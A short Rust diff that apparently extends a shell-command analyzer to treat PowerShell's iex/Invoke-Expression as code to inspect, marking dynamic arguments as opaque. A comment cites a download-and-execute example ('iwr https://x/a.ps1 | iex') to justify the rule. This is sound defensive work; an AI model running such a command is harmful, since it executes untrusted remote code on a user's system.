@@ -27,6 +27,28 @@ pub(super) fn unwrap(
     let name = inv.program_name();
     match name {
         n if SHELLS.contains(&n) => shell(w, index, inv, stdin.take(), procsubs, st),
+        // PowerShell's `Invoke-Expression`: its argument, else what the pipeline hands it, is
+        // code (`iwr https://x/a.ps1 | iex` runs a download).
+        n if n.eq_ignore_ascii_case("iex") || n.eq_ignore_ascii_case("invoke-expression") => {
+            match inv.args.get(1..).filter(|rest| !rest.is_empty()) {
+                Some(rest) => {
+                    if rest.iter().any(|a| a.dynamic) {
+                        w.mark_opaque(index, Opaque::DynamicCode);
+                    }
+                    let text = rest
+                        .iter()
+                        .map(|a| a.text.as_str())
+                        .collect::<Vec<_>>()
+                        .join(" ");
+                    w.run_text(
+                        &text,
+                        &nested_state(inv, st),
+                        Some(Step::via(StepKind::Eval, name)),
+                    );
+                }
+                None => code_from_stdin(w, index, inv, stdin.take(), st),
+            }
+        }
         "eval" => {
             let rest = inv.args.get(1..).unwrap_or(&[]);
             if !rest.is_empty() && rest.iter().all(|a| is_env_setup_output(&a.text)) {
